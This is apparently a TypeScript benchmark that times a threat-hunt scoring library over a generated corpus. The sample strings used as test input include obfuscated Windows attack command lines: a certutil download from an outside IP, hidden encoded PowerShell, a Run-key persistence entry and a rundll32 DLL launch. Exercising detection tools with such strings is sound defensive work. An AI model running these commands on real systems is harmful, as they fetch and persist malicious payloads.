/**
 * Hunt-score throughput on one core (target ≥ 20 MB/s). Prints figures; asserts nothing.
 * Run: node --import tsx tools/bench/hunt-score.ts [megabytes]
 */
import { HUNT_KEYWORD_REGISTRY, scoreHunt } from '@huntforge/scoring';

/** A pseudo-article: prose with registry terms, command lines, paths and obfuscated fragments sprinkled in. */
function buildCorpus(bytes: number): string[] {
  const prose =
    'The actor used a trusted utility to stage the next phase while defenders reviewed telemetry from endpoints across the estate. ';
  const samples = [
    String.raw`cmd.exe /c "c:\windows\system32\rundll32.exe" c:\users\public\x.dll,Start`,
    String.raw`p^o^w^e^r^s^h^e^l^l -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA`,
    String.raw`reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run /v upd /d %APPDATA%\upd.exe /f`,
    String.raw`%comspec:~-7,1%ertutil -urlcache -f http://203.0.113.7/a.bin %TEMP%\a.bin`,
    'Register now for our webinar on ransomware trends in the wild.',
  ];
  const terms = Object.values(HUNT_KEYWORD_REGISTRY).flatMap((tier) => tier.terms);
  const articles: string[] = [];
  let total = 0;
  let seed = 7;
  const next = (n: number): number => {
    seed = (seed * 1103515245 + 12345) & 0x7fffffff;
    return seed % n;
  };
  while (total < bytes) {
    const parts: string[] = [];
    for (let i = 0; i < 400; i++) {
      parts.push(prose);
      if (next(4) === 0) parts.push(samples[next(samples.length)], '\n');
      if (next(3) === 0) parts.push(terms[next(terms.length)], ' ');
    }
    const article = parts.join('');
    articles.push(article);
    total += Buffer.byteLength(article);
  }
  return articles;
}

function main(): void {
  const megabytes = Number(process.argv[2] ?? 50);
  const articles = buildCorpus(megabytes * 1024 * 1024);
  const bytes = articles.reduce((sum, article) => sum + Buffer.byteLength(article), 0);
  console.log(`hunt score, node ${process.version}, ${articles.length} articles, ${(bytes / 1048576).toFixed(1)} MB`);
  for (let round = 1; round <= 3; round++) {
    let checksum = 0;
    const started = process.hrtime.bigint();
    for (const article of articles) checksum += scoreHunt(article).score;
    const seconds = Number(process.hrtime.bigint() - started) / 1e9;
    console.log(
      `[${round}] ${(bytes / 1048576 / seconds).toFixed(1)} MB/s  (${(seconds * 1000).toFixed(0)} ms, mean score ${(checksum / articles.length).toFixed(1)})`,
    );
  }
}

main();
